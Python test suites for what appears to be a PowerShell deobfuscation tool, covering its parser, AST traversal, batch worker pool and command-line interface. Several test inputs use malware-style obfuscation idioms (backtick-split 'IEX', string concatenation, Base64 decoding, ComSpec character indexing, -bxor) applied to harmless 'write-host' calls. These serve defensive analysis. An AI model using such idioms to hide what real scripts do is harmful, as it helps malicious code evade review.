        assert isinstance(expr, N.InvokeMemberExpressionAst)
        assert expr.static
        assert expr.member.value == "FromBase64String"

    def test_instance_method_call(self):
        expr = expression_of("'abc'.Replace('a','b')")
        assert isinstance(expr, N.InvokeMemberExpressionAst)
        assert not expr.static
        assert len(expr.arguments) == 2

    def test_nested_static_then_instance(self):
        expr = expression_of(
            "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($a))"
        )
        assert isinstance(expr, N.InvokeMemberExpressionAst)

    def test_member_access(self):
        expr = expression_of("$x.Length")
        assert isinstance(expr, N.MemberExpressionAst)
        assert expr.member.value == "Length"

    def test_index_expression(self):
        expr = expression_of("$env:ComSpec[4,24,25]")
        assert isinstance(expr, N.IndexExpressionAst)
        assert isinstance(expr.index, N.ArrayLiteralAst)

    def test_range(self):
        expr = expression_of("1..10")
        assert isinstance(expr, N.BinaryExpressionAst)
        assert expr.operator == ".."

    def test_comma_array(self):
        expr = expression_of("1,2,3")
        assert isinstance(expr, N.ArrayLiteralAst)
        assert len(expr.elements) == 3

    def test_subexpression(self):
        expr = expression_of("$(write-host hi)")
        assert isinstance(expr, N.SubExpressionAst)

    def test_array_expression(self):
        expr = expression_of("@(1,2)")
        assert isinstance(expr, N.ArrayExpressionAst)

    def test_hashtable(self):
        expr = expression_of("@{a=1; b='two'}")
        assert isinstance(expr, N.HashtableAst)
        assert len(expr.pairs) == 2

    def test_scriptblock_expression(self):
        expr = expression_of("{ write-host hi }")
        assert isinstance(expr, N.ScriptBlockExpressionAst)

    def test_bxor_string_operand(self):
        expr = expression_of("$_ -bxor '0x4B'")
        assert expr.operator == "-bxor"

    def test_expandable_string(self):
        expr = expression_of('"value $x"')
        assert isinstance(expr, N.ExpandableStringExpressionAst)
        assert expr.value == "value $x"


class TestStatements:
    def test_assignment(self):
        statement = only_statement("$x = 'a'+'b'")
        assert isinstance(statement, N.AssignmentStatementAst)
        assert statement.left.name == "x"
        assert statement.operator == "="

    def test_compound_assignment(self):
        statement = only_statement("$x += 1")
        assert statement.operator == "+="

    def test_if_elseif_else(self):
        statement = only_statement(
            "if ($a) { 'x' } elseif ($b) { 'y' } else { 'z' }"
        )
        assert isinstance(statement, N.IfStatementAst)
        assert len(statement.clauses) == 2
        assert statement.else_body is not None

    def test_while(self):
        statement = only_statement("while ($true) { break }")
        assert isinstance(statement, N.WhileStatementAst)

    def test_do_while(self):
        statement = only_statement("do { $i++ } while ($i -lt 5)")
        assert isinstance(statement, N.DoWhileStatementAst)
        assert not statement.until

    def test_do_until(self):
        statement = only_statement("do { $i++ } until ($i -gt 5)")
        assert statement.until

    def test_for(self):
        statement = only_statement("for ($i=0; $i -lt 3; $i++) { $i }")
        assert isinstance(statement, N.ForStatementAst)
        assert statement.initializer is not None
        assert statement.condition is not None
        assert statement.iterator is not None

    def test_foreach(self):
        statement = only_statement("foreach ($i in 1..3) { $i }")
        assert isinstance(statement, N.ForEachStatementAst)
        assert statement.variable.name == "i"

    def test_function_definition(self):
        statement = only_statement("function Get-X($a, $b) { $a + $b }")
        assert isinstance(statement, N.FunctionDefinitionAst)
        assert statement.name == "Get-X"
        assert len(statement.parameters) == 2

    def test_return(self):
        ast = parse("function f { return 42 }")
        function = ast.statements[0]
        inner = function.body.statements[0]
        assert isinstance(inner, N.ReturnStatementAst)

    def test_try_catch_finally(self):
        statement = only_statement(
            "try { a } catch { b } finally { c }"
        )
        assert isinstance(statement, N.TryStatementAst)
        assert len(statement.catches) == 1
        assert statement.finally_body is not None

    def test_switch(self):
        statement = only_statement(
            "switch ($x) { 1 { 'one' } default { 'other' } }"
        )
        assert isinstance(statement, N.SwitchStatementAst)
        assert len(statement.clauses) == 1
        assert statement.default is not None

    def test_multiple_statements(self):
        ast = parse("$a = 1\n$b = 2\nwrite-host $a")
        assert len(ast.statements) == 3

    def test_param_block(self):
        ast = parse("param($url, $count = 3)\nwrite-host $url")
        assert ast.param_block is not None
        assert len(ast.param_block.parameters) == 2


class TestExtents:
    def test_root_extent_spans_source(self):
        source = "  write-host hello  "
        ast = parse(source)
        assert ast.start == 0
        assert ast.end == len(source)

    def test_every_node_extent_is_within_source(self):
        source = (
            "$a = ('x'+'y').Replace('x','z')\n"
            "if ($a) { write-host $a[0] }"
        )
        ast = parse(source)
        for node in ast.walk_pre_order():
            assert 0 <= node.start <= node.end <= len(source)

    def test_children_within_parent_extent(self):
        source = "iex (('a'+'b') + $c)"
        ast = parse(source)
        for node in ast.walk_pre_order():
            for child in node.children():
                assert node.start <= child.start
                assert child.end <= node.end

    def test_node_text(self):
        source = "$x = 'a'+'b'"
        ast = parse(source)
        statement = ast.statements[0]
        assert statement.text(source) == source

    def test_parent_links(self):
        ast = parse("write-host ('a'+'b')")
        for node in ast.walk_pre_order():
            for child in node.children():
                assert child.parent is node


class TestParseErrors:
    @pytest.mark.parametrize(
        "source",
        [
            "write-host (",
            "if ($x { }",
            "'unterminated",
            "@{ key = }",
            "foreach (x in $y) { }",
        ],
    )
    def test_invalid_raises(self, source):
        with pytest.raises(Exception):
            parse(source)

    def test_try_parse_reports_error(self):
        ast, error = try_parse("write-host (")
        assert ast is None
        assert error

    def test_try_parse_ok(self):
        ast, error = try_parse("write-host hi")
        assert error is None
        assert isinstance(ast, N.ScriptBlockAst)


class TestRecoverableNodeTaxonomy:
    def test_recoverable_types_exported(self):
        assert N.PipelineAst in N.RECOVERABLE_NODE_TYPES
        assert N.BinaryExpressionAst in N.RECOVERABLE_NODE_TYPES
        assert N.InvokeMemberExpressionAst in N.RECOVERABLE_NODE_TYPES
        assert N.SubExpressionAst in N.RECOVERABLE_NODE_TYPES
        assert N.ConvertExpressionAst in N.RECOVERABLE_NODE_TYPES
        assert N.UnaryExpressionAst in N.RECOVERABLE_NODE_TYPES

    def test_find_all_recoverable(self):
        ast = parse("iex ('a'+'b')")
        found = [
            node
            for node in ast.walk_pre_order()
            if isinstance(node, N.RECOVERABLE_NODE_TYPES)
        ]
        assert found
