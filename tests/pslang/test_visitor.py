"""Tests for AST traversal helpers (the Algorithm 1 plumbing)."""

from repro.pslang import ast_nodes as N
from repro.pslang import parse
from repro.pslang.visitor import (
    ancestors,
    enclosing,
    find_all,
    in_conditional,
    in_function,
    in_loop,
    post_order,
    pre_order,
    scope_depth,
    scope_path,
)


class TestTraversalOrders:
    def test_post_order_children_first(self):
        ast = parse("write-host ('a'+'b')")
        seen = list(post_order(ast))
        binary = next(
            n for n in seen if isinstance(n, N.BinaryExpressionAst)
        )
        paren = next(n for n in seen if isinstance(n, N.ParenExpressionAst))
        assert seen.index(binary) < seen.index(paren)
        assert seen[-1] is ast

    def test_pre_order_root_first(self):
        ast = parse("$a = 1")
        assert next(iter(pre_order(ast))) is ast

    def test_post_order_matches_source_order_for_siblings(self):
        ast = parse("$a = 1\n$b = 2")
        assignments = [
            n
            for n in post_order(ast)
            if isinstance(n, N.AssignmentStatementAst)
        ]
        assert assignments[0].start < assignments[1].start


class TestAncestry:
    def test_ancestors_chain(self):
        ast = parse("if ($c) { write-host ('a'+'b') }")
        binary = find_all(ast, N.BinaryExpressionAst)[0]
        chain = list(ancestors(binary))
        assert chain[-1] is ast
        assert any(isinstance(a, N.IfStatementAst) for a in chain)

    def test_enclosing(self):
        ast = parse("while ($true) { $x }")
        variable = [
            v
            for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "x"
        ][0]
        assert isinstance(
            enclosing(variable, N.WhileStatementAst), N.WhileStatementAst
        )
        assert enclosing(variable, N.ForEachStatementAst) is None


class TestContextPredicates:
    def test_in_loop(self):
        ast = parse("foreach ($i in 1..2) { $body }")
        body_var = [
            v
            for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "body"
        ][0]
        assert in_loop(body_var)

    def test_not_in_loop(self):
        ast = parse("$x = 1")
        variable = find_all(ast, N.VariableExpressionAst)[0]
        assert not in_loop(variable)

    def test_in_conditional(self):
        ast = parse("if ($c) { $x }")
        inner = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "x"
        ][0]
        assert in_conditional(inner)

    def test_in_function(self):
        ast = parse("function F { $inner }")
        inner = find_all(ast, N.VariableExpressionAst)[0]
        assert in_function(inner)

    def test_do_while_counts_as_loop(self):
        ast = parse("do { $x } while ($c)")
        inner = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "x"
        ][0]
        assert in_loop(inner)


class TestScopePaths:
    def test_deeper_scope_longer_path(self):
        ast = parse("$a = 1; if ($c) { $b = 2 }")
        a_node = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "a"
        ][0]
        b_node = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "b"
        ][0]
        assert scope_depth(b_node) > scope_depth(a_node)
        assert scope_path(b_node)[: len(scope_path(a_node))] == scope_path(
            a_node
        )

    def test_sibling_blocks_have_distinct_paths(self):
        ast = parse("if ($c) { $a = 1 } else { $b = 2 }")
        a_node = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "a"
        ][0]
        b_node = [
            v for v in find_all(ast, N.VariableExpressionAst)
            if v.name == "b"
        ][0]
        assert scope_path(a_node) != scope_path(b_node)
