"""Property-based tests on the language front-end invariants."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.reformat import reformat_script
from repro.pslang.errors import PSSyntaxError
from repro.pslang.parser import try_parse
from repro.pslang.tokenizer import try_tokenize
from repro.runtime.errors import EvaluationError
from repro.runtime.evaluator import evaluate_expression_text

# A generator of small valid-ish PowerShell snippets via composition.
_IDENT = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=6)
_STRING = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=126,
                           blacklist_characters="'`\"$"),
    max_size=12,
)
_NUMBER = st.integers(min_value=-1000, max_value=1000)


@st.composite
def expressions(draw, depth=2):
    if depth == 0:
        kind = draw(st.integers(0, 2))
        if kind == 0:
            return "'" + draw(_STRING) + "'"
        if kind == 1:
            return str(draw(_NUMBER))
        return "$" + draw(_IDENT)
    kind = draw(st.integers(0, 3))
    left = draw(expressions(depth=depth - 1))
    right = draw(expressions(depth=depth - 1))
    if kind == 0:
        return f"({left} + {right})"
    if kind == 1:
        return f"({left}, {right})"
    if kind == 2:
        return f"({left} -eq {right})"
    return f"({left})"


@st.composite
def statements(draw):
    kind = draw(st.integers(0, 2))
    expression = draw(expressions())
    if kind == 0:
        return expression
    if kind == 1:
        return f"${draw(_IDENT)} = {expression}"
    return f"write-output {expression}"


@settings(max_examples=80, deadline=None)
@given(statements())
def test_generated_statements_tokenize_and_parse(statement):
    tokens, lex_error = try_tokenize(statement)
    assert tokens is not None, lex_error
    ast, parse_error = try_parse(statement)
    assert ast is not None, parse_error


@settings(max_examples=80, deadline=None)
@given(statements())
def test_extents_partition_invariant(statement):
    ast, _ = try_parse(statement)
    assert ast is not None
    for node in ast.walk_pre_order():
        children = sorted(node.children(), key=lambda c: c.start)
        for child in children:
            assert node.start <= child.start <= child.end <= node.end
        for first, second in zip(children, children[1:]):
            assert first.end <= second.start  # disjoint siblings


@settings(max_examples=60, deadline=None)
@given(statements())
def test_reformat_is_parse_stable(statement):
    reformatted = reformat_script(statement)
    ast, error = try_parse(reformatted)
    assert ast is not None, (statement, reformatted, error)


@settings(max_examples=60, deadline=None)
@given(statements())
def test_reformat_idempotent(statement):
    once = reformat_script(statement)
    assert reformat_script(once) == once


@settings(max_examples=60, deadline=None)
@given(
    st.text(
        alphabet=st.characters(min_codepoint=32, max_codepoint=126),
        max_size=40,
    )
)
def test_tokenizer_never_crashes_unexpectedly(source):
    """Arbitrary printable input either tokenizes or raises PSSyntaxError
    via the try_ wrapper — never anything else."""
    tokens, error = try_tokenize(source)
    assert (tokens is None) == (error is not None)
    if tokens is not None:
        for token in tokens:
            assert 0 <= token.start <= token.end <= len(source)


@settings(max_examples=60, deadline=None)
@given(
    st.text(
        alphabet=st.characters(min_codepoint=32, max_codepoint=126),
        max_size=16,
    ).filter(lambda s: "'" not in s and "`" not in s)
)
def test_string_literal_evaluation_roundtrip(text):
    """A single-quoted literal always evaluates back to its content."""
    value = evaluate_expression_text("'" + text + "'")
    assert value == text


@settings(max_examples=40, deadline=None)
@given(st.integers(-10**6, 10**6), st.integers(-10**6, 10**6))
def test_arithmetic_matches_python(a, b):
    assert evaluate_expression_text(f"{a} + {b}") == a + b
    assert evaluate_expression_text(f"({a}) * 2") == a * 2
