"""Fault-injecting batch workers, importable from worker processes.

The pool addresses workers by ``module:callable`` spec, so these live in
a real module (not a test body).  Each worker inspects the sample's
content for a marker and misbehaves accordingly; anything unmarked is
delegated to the production worker.
"""

import os
import time

from repro.batch.task import Task, run_one

LOOP_MARKER = "repro-test-loop"
CRASH_MARKER = "repro-test-crash"
CRASH_ONCE_MARKER = "repro-test-crash-once"
SLEEP_MARKER = "repro-test-sleep"


def faulty_worker(task: Task) -> dict:
    """Hang forever, die, or die-once based on markers in the sample."""
    with open(task.path, "r", encoding="utf-8", errors="replace") as handle:
        content = handle.read()
    if LOOP_MARKER in content:
        while True:
            time.sleep(0.05)
    if CRASH_ONCE_MARKER in content:
        flag = task.path + ".crashed"
        if not os.path.exists(flag):
            with open(flag, "w", encoding="utf-8"):
                pass
            os._exit(21)
    elif CRASH_MARKER in content:
        os._exit(13)
    if SLEEP_MARKER in content:
        time.sleep(0.2)
    return run_one(task)


def raising_worker(task: Task) -> dict:
    """Raise inside the worker function (process survives)."""
    raise RuntimeError(f"synthetic failure for {os.path.basename(task.path)}")
