"""Unit tests for :mod:`repro.batch.results` and
:mod:`repro.batch.summary` — the JSONL layer and the aggregate math."""

import json

import pytest

from repro.batch import (
    ResultWriter,
    completed_paths,
    iter_records,
    render_summary,
    summarize,
)
from repro.batch.task import discover, make_tasks


class TestResultWriter:
    def test_appends_and_flushes(self, tmp_path):
        out = tmp_path / "run.jsonl"
        with ResultWriter(path=str(out)) as writer:
            writer.write({"path": "a.ps1", "status": "ok"})
            # visible immediately, before close
            assert len(out.read_text().splitlines()) == 1
            writer.write({"path": "b.ps1", "status": "error"})
        lines = out.read_text().splitlines()
        assert len(lines) == 2
        assert json.loads(lines[0])["path"] == "a.ps1"

    def test_append_mode_preserves_prior_runs(self, tmp_path):
        out = tmp_path / "run.jsonl"
        for name in ("a", "b"):
            with ResultWriter(path=str(out)) as writer:
                writer.write({"path": name, "status": "ok"})
        assert len(out.read_text().splitlines()) == 2

    def test_requires_exactly_one_target(self, tmp_path):
        with pytest.raises(ValueError):
            ResultWriter()
        with pytest.raises(ValueError):
            ResultWriter(path=str(tmp_path / "x"), stream=object())


class TestRecordReading:
    def test_iter_skips_malformed_lines(self, tmp_path):
        out = tmp_path / "run.jsonl"
        out.write_text(
            '{"path": "a", "status": "ok"}\n'
            '{"path": "b", "sta'  # truncated mid-write
        )
        records = list(iter_records(str(out)))
        assert [r["path"] for r in records] == ["a"]

    def test_completed_paths(self, tmp_path):
        out = tmp_path / "run.jsonl"
        out.write_text(
            '{"path": "a", "status": "ok"}\n'
            '{"path": "b", "status": "timeout"}\n'
            '{"path": "c"}\n'  # no status -> not terminal
        )
        assert completed_paths(str(out)) == {"a", "b"}

    def test_completed_paths_missing_file(self, tmp_path):
        assert completed_paths(str(tmp_path / "nope.jsonl")) == set()


class TestSummary:
    def test_zero_filled_statuses(self):
        summary = summarize([])
        assert summary["total"] == 0
        assert summary["status_counts"] == {
            "ok": 0, "invalid": 0, "timeout": 0, "error": 0,
        }

    def test_percentiles_and_throughput(self):
        records = [
            {"status": "ok", "elapsed_seconds": t, "layers_unwrapped": 1,
             "changed": True}
            for t in (0.1, 0.2, 0.3, 0.4, 1.0)
        ]
        records.append({"status": "error", "error": "boom"})
        summary = summarize(records, wall_seconds=2.0)
        assert summary["total"] == 6
        assert summary["status_counts"]["ok"] == 5
        assert summary["status_counts"]["error"] == 1
        assert summary["latency_p50_seconds"] == 0.3
        assert summary["latency_max_seconds"] == 1.0
        assert summary["layers_unwrapped"] == 5
        assert summary["changed"] == 5
        assert summary["throughput_scripts_per_second"] == 3.0

    def test_render_mentions_every_status(self):
        text = render_summary(summarize([], wall_seconds=1.0))
        for status in ("ok", "invalid", "timeout", "error"):
            assert status in text
        assert "throughput" in text


class TestDiscovery:
    def test_directory_files_and_stdin(self, tmp_path):
        (tmp_path / "sub").mkdir()
        (tmp_path / "a.ps1").write_text("x")
        (tmp_path / "sub" / "b.ps1").write_text("x")
        (tmp_path / "ignored.txt").write_text("x")
        extra = tmp_path / "extra.whatever"
        extra.write_text("x")
        import io

        paths = discover(
            [str(tmp_path), str(extra), "-"],
            stdin=io.StringIO("from-stdin.ps1\n\n"),
        )
        assert paths == [
            str(tmp_path / "a.ps1"),
            str(tmp_path / "sub" / "b.ps1"),
            str(extra),
            "from-stdin.ps1",
        ]

    def test_deduplicates(self, tmp_path):
        sample = tmp_path / "a.ps1"
        sample.write_text("x")
        assert discover([str(sample), str(sample), str(tmp_path)]) == [
            str(sample)
        ]

    def test_custom_glob(self, tmp_path):
        (tmp_path / "a.ps1").write_text("x")
        (tmp_path / "b.txt").write_text("x")
        assert discover([str(tmp_path)], glob="*.txt") == [
            str(tmp_path / "b.txt")
        ]

    def test_make_tasks_shares_options(self, tmp_path):
        tasks = make_tasks(
            ["a.ps1", "b.ps1"], deadline_seconds=2.0, rename=False
        )
        assert all(
            t.options == {"rename": False, "deadline_seconds": 2.0}
            for t in tasks
        )
