"""End-to-end tests for the ``repro batch`` CLI subcommand, including
the acceptance scenario: a corpus with an injected infinite-loop sample
and an injected crasher completes with exact per-status counts."""

import json

import pytest

from repro.cli import main
from tests.batch.helpers import CRASH_MARKER, LOOP_MARKER

FAULTY = "tests.batch.helpers:faulty_worker"


@pytest.fixture
def corpus(tmp_path):
    directory = tmp_path / "corpus"
    directory.mkdir()
    for index in range(5):
        (directory / f"ok{index}.ps1").write_text(
            f"I`E`X ('wri'+'te-host {index}')", encoding="utf-8"
        )
    return directory


def read_lines(text):
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def split_header(objects):
    """Separate header lines (kind: batch_header) from sample records."""
    headers = [o for o in objects if o.get("kind") == "batch_header"]
    records = [o for o in objects if "kind" not in o]
    return headers, records


def read_jsonl(path):
    """Sample records from a JSONL file, headers dropped."""
    return split_header(read_lines(path.read_text()))[1]


class TestBatchCommand:
    def test_stdout_streaming(self, corpus, capsys):
        code = main(["batch", str(corpus), "--jobs", "2"])
        captured = capsys.readouterr()
        assert code == 0
        headers, records = split_header(read_lines(captured.out))
        assert len(records) == 5
        assert all(r["status"] == "ok" for r in records)
        # the run opens with exactly one version header
        assert len(headers) == 1
        # summary goes to stderr so stdout stays machine-readable
        assert "ok=5" in captured.err

    def test_header_carries_version(self, corpus, capsys):
        from repro import package_version
        from repro.batch import RECORD_SCHEMA_VERSION

        code = main(["batch", str(corpus), "--jobs", "1"])
        assert code == 0
        first = json.loads(capsys.readouterr().out.splitlines()[0])
        assert first["kind"] == "batch_header"
        assert first["repro_version"] == package_version()
        assert first["record_schema_version"] == RECORD_SCHEMA_VERSION

    def test_output_file_and_summary(self, corpus, tmp_path, capsys):
        out_file = tmp_path / "run.jsonl"
        code = main(
            ["batch", str(corpus), "--jobs", "2",
             "--output", str(out_file)]
        )
        assert code == 0
        assert len(read_jsonl(out_file)) == 5
        summary = capsys.readouterr().out
        assert "ok=5" in summary
        assert "throughput" in summary

    def test_records_carry_versioned_telemetry(self, corpus, tmp_path,
                                               capsys):
        from repro.batch import RECORD_SCHEMA_VERSION
        from repro.obs import PipelineStats

        out_file = tmp_path / "run.jsonl"
        code = main(
            ["batch", str(corpus), "--jobs", "2",
             "--output", str(out_file)]
        )
        assert code == 0
        records = read_jsonl(out_file)
        for record in records:
            assert record["schema_version"] == RECORD_SCHEMA_VERSION
            stats = PipelineStats.from_dict(record["stats"])
            assert stats.to_dict() == record["stats"]
            assert "ast" in stats.phase_seconds
        # The corpus summary reports per-phase percentiles (Fig 6
        # per-phase) aggregated from the embedded stats.
        summary = capsys.readouterr().out
        assert "p95" in summary
        assert "ast" in summary
        assert "recovery" in summary

    def test_acceptance_faults_exact_counts(self, corpus, tmp_path, capsys):
        (corpus / "hang.ps1").write_text(
            f"# {LOOP_MARKER}\nwhile ($true) {{ }}", encoding="utf-8"
        )
        (corpus / "boom.ps1").write_text(
            f"# {CRASH_MARKER}", encoding="utf-8"
        )
        out_file = tmp_path / "run.jsonl"
        code = main(
            ["batch", str(corpus), "--jobs", "4", "--timeout", "0.5",
             "--retries", "0", "--worker", FAULTY,
             "--output", str(out_file)]
        )
        assert code == 3  # an error sample -> nonzero exit
        records = read_jsonl(out_file)
        counts = {}
        for record in records:
            counts[record["status"]] = counts.get(record["status"], 0) + 1
        assert counts == {"ok": 5, "timeout": 1, "error": 1}
        summary = capsys.readouterr().out
        assert "ok=5" in summary
        assert "timeout=1" in summary
        assert "error=1" in summary

    def test_exit_zero_flag(self, corpus, tmp_path, capsys):
        (corpus / "boom.ps1").write_text(
            f"# {CRASH_MARKER}", encoding="utf-8"
        )
        code = main(
            ["batch", str(corpus), "--jobs", "2", "--retries", "0",
             "--worker", FAULTY, "--exit-zero",
             "--output", str(tmp_path / "run.jsonl")]
        )
        assert code == 0

    def test_resume_skips_completed(self, corpus, tmp_path, capsys):
        out_file = tmp_path / "run.jsonl"
        assert main(
            ["batch", str(corpus), "--jobs", "2",
             "--output", str(out_file)]
        ) == 0
        first = read_jsonl(out_file)
        capsys.readouterr()

        (corpus / "new.ps1").write_text("write-host new", encoding="utf-8")
        assert main(
            ["batch", str(corpus), "--jobs", "2", "--resume",
             "--output", str(out_file)]
        ) == 0
        second = read_jsonl(out_file)
        assert len(second) == len(first) + 1
        added = second[len(first):]
        assert added[0]["path"].endswith("new.ps1")
        summary = capsys.readouterr().out
        assert "skipped" in summary

    def test_resume_requires_output(self, corpus, capsys):
        assert main(["batch", str(corpus), "--resume"]) == 2
        assert "requires --output" in capsys.readouterr().err

    def test_bad_worker_spec_fails_fast(self, corpus, capsys):
        assert main(
            ["batch", str(corpus), "--worker", "nosuch.module:fn"]
        ) == 2
        assert "invalid --worker" in capsys.readouterr().err

    def test_no_samples_found(self, tmp_path, capsys):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert main(["batch", str(empty)]) == 1
        assert "no samples" in capsys.readouterr().err

    def test_stdin_path_list(self, corpus, capsys, monkeypatch):
        import io

        listing = "\n".join(
            str(path) for path in sorted(corpus.glob("*.ps1"))[:2]
        )
        monkeypatch.setattr("sys.stdin", io.StringIO(listing))
        code = main(["batch", "-", "--jobs", "1"])
        out = capsys.readouterr().out
        assert code == 0
        assert len(split_header(read_lines(out))[1]) == 2

    def test_dedup_reuses_first_result(self, corpus, tmp_path, capsys):
        # three byte-identical copies of one script + the 5 unique
        # ones; names sort after ok0.ps1 so it stays the first-seen
        for name in ("zz-dup-a.ps1", "zz-dup-b.ps1"):
            (corpus / name).write_text(
                (corpus / "ok0.ps1").read_text(encoding="utf-8"),
                encoding="utf-8",
            )
        out_file = tmp_path / "run.jsonl"
        code = main(
            ["batch", str(corpus), "--jobs", "2", "--dedup",
             "--store-scripts", "--output", str(out_file)]
        )
        assert code == 0
        records = read_jsonl(out_file)
        assert len(records) == 7
        hits = [r for r in records if r.get("cache_hit")]
        assert {r["path"].rsplit("/", 1)[-1] for r in hits} == {
            "zz-dup-a.ps1", "zz-dup-b.ps1"
        }
        original = next(
            r for r in records if r["path"].endswith("ok0.ps1")
        )
        for hit in hits:
            assert hit["status"] == "ok"
            assert hit["script"] == original["script"]
            assert hit["sha256"] == original["sha256"]
        summary = capsys.readouterr().out
        assert "dedup" in summary
        assert "2 of 7" in summary

    def test_dedup_summary_counts(self, corpus, capsys):
        (corpus / "copy.ps1").write_text(
            (corpus / "ok1.ps1").read_text(encoding="utf-8"),
            encoding="utf-8",
        )
        from repro.batch import BatchSummary

        code = main(["batch", str(corpus), "--jobs", "1", "--dedup"])
        captured = capsys.readouterr()
        assert code == 0
        _headers, records = split_header(read_lines(captured.out))
        summary = BatchSummary.from_records(records)
        assert summary.cache_hits == 1
        assert summary.total == 6
        assert summary.status_counts["ok"] == 6
