"""Tests for the interactive :class:`BatchPool` API — ``submit()`` /
``collect()`` — which the service dispatcher uses to keep one fleet
warm across many requests (``run()`` covers the one-shot batch path).
"""

import os

import pytest

from repro.batch.pool import BatchPool
from repro.batch.task import Task
from tests.batch.helpers import CRASH_MARKER, LOOP_MARKER

FAULTY = "tests.batch.helpers:faulty_worker"


def write_sample(directory, name, content):
    path = directory / name
    path.write_text(content, encoding="utf-8")
    return str(path)


def collect_all(pool, expected):
    """Drain *expected* completions; return {ticket: record}."""
    done = {}
    while len(done) < expected:
        for ticket, record in pool.collect(timeout=10.0):
            done[ticket] = record
    return done


class TestSubmitCollect:
    def test_round_trip_matches_tickets(self, tmp_path):
        pool = BatchPool(jobs=2)
        try:
            tickets = {}
            for index in range(4):
                path = write_sample(
                    tmp_path, f"s{index}.ps1", f"write-host {index}"
                )
                tickets[pool.submit(Task(path=path))] = index
            done = collect_all(pool, 4)
            assert set(done) == set(tickets)
            for ticket, record in done.items():
                assert record["status"] == "ok"
                assert record["path"].endswith(f"s{tickets[ticket]}.ps1")
        finally:
            pool.close()

    def test_collect_without_work_returns_empty(self):
        pool = BatchPool(jobs=1)
        try:
            assert pool.collect(timeout=0.05) == []
            assert pool.outstanding == 0
        finally:
            pool.close()

    def test_fleet_persists_across_submissions(self, tmp_path):
        pool = BatchPool(jobs=2)
        try:
            pool.prestart()
            first_pids = {
                worker.proc.pid for worker in pool._workers.values()
            }
            assert len(first_pids) == 2
            for round_number in range(3):
                path = write_sample(
                    tmp_path, f"r{round_number}.ps1", "write-host hi"
                )
                pool.submit(Task(path=path))
                collect_all(pool, 1)
            second_pids = {
                worker.proc.pid for worker in pool._workers.values()
            }
            # healthy workers are reused, never respawned per-task
            assert second_pids == first_pids
            assert pool.restarts == {"crash": 0, "timeout": 0}
        finally:
            pool.close()

    def test_source_task_needs_no_file(self):
        pool = BatchPool(jobs=1)
        try:
            pool.submit(
                Task(path="mem:a", source="write-host from-memory",
                     store_script=True)
            )
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "ok"
            assert "from-memory" in record["script"]
        finally:
            pool.close()


class TestRestartAccounting:
    def test_crash_counts_and_fleet_recovers(self, tmp_path):
        pool = BatchPool(jobs=1, retries=0, worker=FAULTY)
        try:
            boom = write_sample(tmp_path, "boom.ps1", f"# {CRASH_MARKER}")
            pool.submit(Task(path=boom))
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "error"
            assert pool.restarts == {"crash": 1, "timeout": 0}

            fine = write_sample(tmp_path, "fine.ps1", "write-host ok")
            pool.submit(Task(path=fine))
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "ok"
        finally:
            pool.close()

    def test_timeout_kill_counts(self, tmp_path):
        pool = BatchPool(jobs=1, timeout=0.4, kill_grace=0.2, worker=FAULTY)
        try:
            hang = write_sample(
                tmp_path, "hang.ps1", f"# {LOOP_MARKER}\nwhile(1){{}}"
            )
            pool.submit(Task(path=hang))
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "timeout"
            assert record["graceful"] is False
            assert pool.restarts == {"crash": 0, "timeout": 1}
        finally:
            pool.close()

    def test_crash_retry_then_success_still_counts(self, tmp_path):
        from tests.batch.helpers import CRASH_ONCE_MARKER

        pool = BatchPool(jobs=1, retries=1, worker=FAULTY)
        try:
            once = write_sample(
                tmp_path, "once.ps1", f"# {CRASH_ONCE_MARKER}\nwrite-host hi"
            )
            pool.submit(Task(path=once))
            (record,) = collect_all(pool, 1).values()
            assert record["status"] == "ok"
            assert record["attempts"] == 2
            assert pool.restarts["crash"] == 1
        finally:
            pool.close()


class TestLifecycle:
    def test_close_is_reusable_and_preserves_counters(self, tmp_path):
        pool = BatchPool(jobs=1, retries=0, worker=FAULTY)
        boom = write_sample(tmp_path, "boom.ps1", f"# {CRASH_MARKER}")
        pool.submit(Task(path=boom))
        collect_all(pool, 1)
        assert pool.restarts["crash"] == 1
        pool.close()
        assert pool.worker_count == 0

        # a closed pool accepts new work and keeps lifetime counters
        fine = write_sample(tmp_path, "fine.ps1", "write-host ok")
        pool.submit(Task(path=fine))
        (record,) = collect_all(pool, 1).values()
        assert record["status"] == "ok"
        assert pool.restarts["crash"] == 1
        pool.close()

    def test_close_kills_outstanding_workers(self, tmp_path):
        pool = BatchPool(jobs=1, timeout=30.0, worker=FAULTY)
        hang = write_sample(
            tmp_path, "hang.ps1", f"# {LOOP_MARKER}\nwhile(1){{}}"
        )
        pool.submit(Task(path=hang))
        # let the task dispatch, then abandon it
        pool.collect(timeout=0.3)
        pids = [worker.proc.pid for worker in pool._workers.values()]
        pool.close()
        for pid in pids:
            with pytest.raises(ProcessLookupError):
                os.kill(pid, 0)

    def test_run_generator_still_works_after_interactive_use(self, tmp_path):
        pool = BatchPool(jobs=2)
        path = write_sample(tmp_path, "a.ps1", "write-host a")
        pool.submit(Task(path=path))
        collect_all(pool, 1)
        pool.close()

        tasks = [
            Task(path=write_sample(tmp_path, f"g{i}.ps1", f"write-host {i}"))
            for i in range(3)
        ]
        records = list(pool.run(tasks))
        assert len(records) == 3
        assert all(record["status"] == "ok" for record in records)

    def test_submit_rejects_bad_worker_spec_fast(self):
        pool = BatchPool(jobs=1, worker="nosuch.module:fn")
        with pytest.raises((ImportError, AttributeError, ValueError)):
            pool.submit(Task(path="x.ps1"))


class TestResize:
    def test_grow_spawns_on_demand(self, tmp_path):
        pool = BatchPool(jobs=1)
        try:
            pool.prestart()
            assert pool.worker_count == 1
            assert pool.resize(3) == 3
            pool.prestart()
            assert pool.worker_count == 3
        finally:
            pool.close()

